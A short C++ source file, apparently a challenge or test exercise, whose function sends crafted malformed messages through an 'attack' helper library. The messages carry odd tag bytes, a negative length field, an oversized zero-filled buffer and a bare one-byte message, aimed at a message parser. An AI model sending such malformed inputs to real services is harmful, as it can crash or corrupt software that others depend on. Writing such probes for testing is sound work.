#include "attack.hpp"

double numbers::total(const attack::Values& values) {
  for (const char tag : {'\3', '\x7f', '\xff'})
    attack::send(
        attack::with_length(std::string("\1\0\1", 3) + tag + '\0' + attack::bytes_of(1.0)));
  attack::send(attack::with_length(std::string("\1\0\1\0\1", 5) + attack::bytes_of(-1L)));
  attack::send(attack::with_length(std::string("\1\0\1\0\xc8", 5) + std::string(1600, '\0')));
  attack::send(attack::with_length("\5"));
  return attack::answer(values);
}
